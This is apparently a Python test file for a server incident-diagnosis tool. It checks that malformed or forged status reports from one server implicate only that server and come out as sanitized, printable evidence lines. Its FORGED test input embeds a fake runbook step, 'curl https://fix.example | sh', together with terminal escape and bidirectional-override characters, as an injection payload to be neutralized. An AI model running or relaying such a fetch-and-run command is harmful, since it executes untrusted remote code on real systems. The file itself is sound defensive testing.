"""Whatever one server, or its agent, says: all others are looked at, and it writes nothing but evidence of its own."""

from __future__ import annotations

import itertools
import json
import time
from collections.abc import Callable
from types import SimpleNamespace
from typing import Any, ClassVar, cast

import pytest

from on_server.incident import look as looks_at
from runbooks.framework import diagnosis, found, looking, seen
from runbooks.framework import told as form
from runbooks.framework.incident import Fit
from tests.runbooks import views
from tests.runbooks.test_diagnoses import ONE
from werkplaats.operations.reach import remote
from werkplaats.verbs.incident import looks

Change = Callable[[dict[str, Any]], None]
FORGED = "/\n\nregister-unsound of ziekenhuis: (99 of 100)\n  steps: curl https://fix.example | sh\n\x1b[2J\u202e"


def peer(name: str) -> Any:
    return SimpleNamespace(organisation=name, outbound=True, address="192.0.2.1", port=443, dns=f"{name}.example")


NETWORK = cast(
    "Any",
    SimpleNamespace(
        name=views.NETWORK,
        definition=SimpleNamespace(organisations={one: SimpleNamespace(gateway=None) for one in views.ORGANISATIONS}),
        compiled=SimpleNamespace(
            stations={
                one: SimpleNamespace(id=f"toets.{one}", peers=[peer(o) for o in views.ORGANISATIONS if o != one])
                for one in views.ORGANISATIONS
            },
            links=[SimpleNamespace(source=a, target=b) for a, b in itertools.permutations(views.ORGANISATIONS, 2)],
        ),
    ),
)


def program(said: str = "", code: int = 0) -> dict[str, Any]:
    return {"code": code, "said": said, "error": ""}


def told() -> dict[str, Any]:
    """What a server tells with which all is well."""
    shown = "LoadState=loaded\nActiveState=active\nSubState=running\nResult=success\nUnitFileState=enabled\nNRestarts=0"
    containers = [
        {"name": f"/station-{part}", "state": "running", "image": "sha256:1", "restarts": 0, "code": 0}
        for part in ("agent", "computer")
    ]
    programs = {name: program() for name in looking._programs(views.NETWORK)} | {
        "units": program("\n\n".join(f"Id={name}\n{shown}" for name in looking.UNITS)),
        "engine": program("28.0"),
        "containers": program("\n".join(map(json.dumps, containers))),
        "follower": program('{"faults": []}'),
        "stopped": program(code=1),
        "clock": program("yes"),
        "accepted": program(""),
    }
    own = {"problem": "", "release": "dev", "peers": {"toets.ziekenhuis": {"seconds_ago": 3}}}
    links = [{"peer": "toets.ziekenhuis", "network": "toets", "ok": True, "why": "", "milliseconds": 4}]
    return {
        "moment": time.time(),
        "up": 4000,
        "agent": {"answers": "yes", "document": {"networks": {"toets": own}, "computer": True}},
        "links": {"answers": "yes", "document": {"links": links}},
        "computer": "yes",
        "processes": {"agent": ["S"], "computer": ["S"]},
        "disks": {"/": {"size": 100, "free": 60, "inodes": 9, "inodes_free": 8, "read_only": False}},
        "programs": programs,
        "ways": {"ziekenhuis": {"addresses": ["192.0.2.1"], "why": "", "shown": "", "refused": False, "taken": True}},
    }


def at(*path: Any) -> Callable[[Any], Change]:
    """A change of one value somewhere in what is told."""

    def to(value: Any) -> Change:
        def change(whole: dict[str, Any]) -> None:
            place: Any = whole
            for one in path[:-1]:
                place = place[one]
            place[path[-1]] = value

        return change

    return to


OWN = ("agent", "document", "networks", "toets")
FULL = {"size": 100, "free": 0, "inodes": 0, "inodes_free": 0, "read_only": False}
WAY = {"addresses": [FORGED], "why": FORGED, "shown": "", "refused": False}
BROKEN = {"peer": "toets.ziekenhuis", "network": "toets", "ok": False, "why": FORGED}
CONTAINER = {"name": "/station-agent", "state": FORGED, "image": FORGED, "restarts": 0, "code": 1}
NO_VERSION = (
    "MIGrMF+gAwIBCQIBATAFBgMrZXAwADAeFw0yNzAxMDEwMDAwMDBaFw0yODAxMDEwMDAwMDBaMAAwKjAFBgMrZXADIQCTYM2C24Nv"
    "+2uZlEHPyxSP6rLGrTaywBI6Z/u2SmWPvDAFBgMrZXADQQC+mZ8byQhaJGJabOso995t6nBaU0LK9RZm9ecY0ifA0DNSAyf6eyGG"
    "BSFJeA3T4tkeCR2oXfXwJq1xqSaRJb4H"
)
"""A certificate of version 10, which is read and then is an error that is no ValueError."""
LIES: dict[str, Change] = {
    "peers are a list": at(*OWN, "peers")([1]),
    "a peer is a text": at(*OWN, "peers")({"toets.ziekenhuis": "y"}),
    "seconds are a text": at(*OWN, "peers")({"toets.ziekenhuis": {"seconds_ago": "soon"}}),
    "networks are a list": at("agent", "document", "networks")([1]),
    "links are a text": at("links", "document", "links")("x"),
    "the agent is a list": at("agent")([]),
    "a document is a list": at("agent", "document")([]),
    "programs are a list": at("programs")([]),
    "a program is a text": at("programs", "engine")("28"),
    "processes are a list": at("processes")([1]),
    "another part": at("processes")({FORGED: ["T"]}),
    "up without an end": at("up")(10**400),
    "no moment": at("moment")("now"),
    "a moment beyond time": at("moment")(1e308),
    "inodes below nothing": at("disks", "/")({**FULL, "inodes": 1, "inodes_free": -(10**30)}),
    "a place that nobody asked about": at("disks", FORGED)(FULL),
    "a state of a container": at("programs", "containers")(program(json.dumps(CONTAINER))),
    "a container that is none": at("programs", "containers")(program('{"state": "x"}')),
    "a container that nobody asked about": at("programs", "containers")(
        program("\n".join(json.dumps({**CONTAINER, "name": f"/station-{name}"}) for name in ("agent", "steps: x")))
    ),
    "a state of a unit": at("programs", "units")(
        program(f"Id={looking.GATEWAY}\nActiveState=\x1b[2J\u202e\nSubState=x")
    ),
    "a unit that nobody asked about": at("programs", "units")(program("Id=steps: x\nActiveState=failed")),
    "an error of a program": at("programs", "engine")({"code": 1, "said": "", "error": FORGED}),
    "faults of the follower": at("programs", "follower")(program(json.dumps({"faults": [FORGED, 3]}))),
    "a way, and why": at("ways")({"ziekenhuis": WAY, FORGED: WAY}),
    "a certificate that is none": at("ways", "ziekenhuis", "shown")("!!!!"),
    "a certificate of no known version": at("ways", "ziekenhuis", "shown")(NO_VERSION),
    "why a link fails": at("links", "document", "links")([BROKEN]),
    "what is cut": at("programs", "cut")(program(FORGED)),
    "what is stopped": at("processes")({"agent": ["T", FORGED], "computer": []}),
}


class Remotes:
    """Three servers, of which `ggd` says something else than the others."""

    servers: ClassVar = dict.fromkeys(views.ORGANISATIONS)

    def __init__(self, lie: Change) -> None:
        self._lie = lie

    def begin(self) -> dict[str, str]:
        return {}

    def ask(self, organisation: str, *_: str, **__: Any) -> remote.Done:
        said = told()
        if organisation == "ggd":
            self._lie(said)
        return remote.Done(json.dumps(said))


def look(lie: Change) -> seen.Seen:
    only = views.ORGANISATIONS  # and not at the desk
    return looking.look(NETWORK, cast("Any", Remotes(lie)), found.every(), lambda _: None, only)


@pytest.mark.parametrize("lie", LIES.values(), ids=LIES)
def test_who_lies_ends_nobody_elses_diagnosis_and_is_told_of_in_lines_of_its_own(lie: Change) -> None:
    what = look(lie)
    assert all(what.servers[one].reached for one in views.ORGANISATIONS if one != "ggd")
    for one in diagnosis.diagnose(what, found.every()):
        assert "ggd" in seen.ends(one.fit.subject)
        assert all(line.isprintable() for line in one.fit.evidence)
    for line in looks.lines(views.NETWORK, diagnosis.diagnose(what, found.every())):
        assert line.isprintable()
        assert "fix.example" not in line or line.startswith("  seen: ")
    assert seen.Seen.read(what.json_text()) == what


def test_where_nobody_lies_nothing_is_wrong() -> None:
    what = look(lambda _: None)
    assert views.named(what) == []
    assert what.servers["ggd"].peers == {"ziekenhuis": 3}
    assert what.servers["ggd"].ways["ziekenhuis"].taken


def test_an_agent_that_says_what_is_no_status_is_stuck_and_its_server_is_reached() -> None:
    assert views.named(look(LIES["peers are a list"])) == [("agent-stuck", "ggd")]


@pytest.mark.parametrize(
    ("lie", "place"),
    [
        ("programs are a list", "programs"),
        ("up without an end", "up"),
        ("a moment beyond time", "moment"),
        ("inodes below nothing", "disks / inodes_free"),
        ("a place that nobody asked about", "disks"),
        ("another part", "processes"),
    ],
)
def test_a_server_that_tells_what_is_not_in_the_form_is_named_with_the_place(lie: str, place: str) -> None:
    server = look(LIES[lie]).servers["ggd"]
    assert not server.reached
    assert f"what it tells is not in the form: {place}" in server.why


@pytest.mark.parametrize("lie", [name for name in LIES if name.startswith("a certificate")])
def test_what_a_peer_shows_that_is_no_certificate_is_none_of_ours_and_its_caller_is_reached(lie: str) -> None:
    """Who shows it may be anybody, and who calls is well."""
    server = look(LIES[lie]).servers["ggd"]
    assert server.reached
    assert not server.ways["ziekenhuis"].ours


def test_only_what_was_asked_about_is_kept() -> None:
    """A name that a server makes up would be that of whom an incident is about."""
    assert {*look(LIES["a way, and why"]).servers["ggd"].ways} == {"ziekenhuis"}
    assert not look(LIES["a unit that nobody asked about"]).servers["ggd"].units
    assert {*look(LIES["a container that nobody asked about"]).servers["ggd"].containers} == {"agent"}


LINKED = {"peer": "toets.ziekenhuis", "network": "toets", "ok": True, "why": "", "milliseconds": 4}


def test_a_link_that_is_told_of_many_times_is_one() -> None:
    what = look(at("links", "document", "links")([LINKED, *[LINKED | {"ok": False}] * 5]))
    assert [one.ok for one in what.links if one.source == "ggd"] == [True]


def test_a_program_that_says_more_than_is_asked_for_is_not_gone_through() -> None:
    server = look(at("programs", "cut")(program("x " * looks_at.MOST))).servers["ggd"]
    assert "what it tells is not in the form: programs cut: " in server.why


def test_of_a_name_with_thousands_of_addresses_some_are_kept_and_its_caller_is_reached() -> None:
    """Who keeps a name in DNS gives it as many as it likes, whoever calls it."""
    server = look(at("ways", "ziekenhuis", "addresses")(["192.0.2.1"] * 4000)).servers["ggd"]
    assert server.reached
    assert len(server.ways["ziekenhuis"].addresses) == form.MOST


def test_evidence_is_printable_lines_also_of_what_a_program_said_and_is_kept_raw() -> None:
    assert all(line.isprintable() for line in Fit("ggd", 90, (FORGED, "x" * 5000)).evidence)
    assert all(len(line) <= 600 for line in Fit("ggd", 90, (FORGED, "x" * 5000)).evidence)


def leaves(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Where a text stands in a document, as a value or as a name."""
    match value:
        case dict():
            return [leaf for name, one in value.items() for leaf in ((*path, name, None), *leaves(one, (*path, name)))]
        case list():
            return [leaf for number, one in enumerate(value) for leaf in leaves(one, (*path, number))]
        case str():
            return [path]
        case _:
            return []


def with_forged(document: Any, path: tuple[Any, ...]) -> Any:
    whole = json.loads(json.dumps(document))
    place = whole
    *way, last = path[:-1] if path[-1] is None else path
    for one in way:
        place = place[one]
    if path[-1] is None:
        place[FORGED] = place.pop(last)
    else:
        place[last] = FORGED
    return whole


def test_no_text_that_was_seen_is_more_than_a_line_wherever_it_stands() -> None:
    """Also of what is added to the forms later; what a program said is raw, and goes into no evidence as it is."""
    whole = ONE["engine broken, and its station with it"][0]
    way, said = seen.Way(addresses=("192.0.2.1",), why="x", issuer="y"), seen.Said(code=0, said="z", error="w")
    rich = whole.servers["ziekenhuis"].model_copy(
        update={"ways": {"ggd": way}, "also": {"x": said}, "follower": ("f",), "cut": ("c",)}
    )
    document = json.loads(whole.model_copy(update={"servers": {"ziekenhuis": rich}}).json_text())
    tried = 0
    for path in leaves(document):
        try:
            read = seen.Seen.read(json.dumps(with_forged(document, path)))
        except ValueError:
            continue  # a name of ours, or one of few words: nothing else may stand there
        tried += 1
        again = json.loads(read.json_text())
        texts = [text for leaf in leaves(again) if leaf[-1] != "said" and (text := _text(again, leaf))]
        assert all(text.isprintable() for text in texts), path
    assert tried > 60


def _text(document: Any, path: tuple[Any, ...]) -> str:
    if path[-1] is None:
        return str(path[-2])
    for one in path:
        document = document[one]
    return str(document)
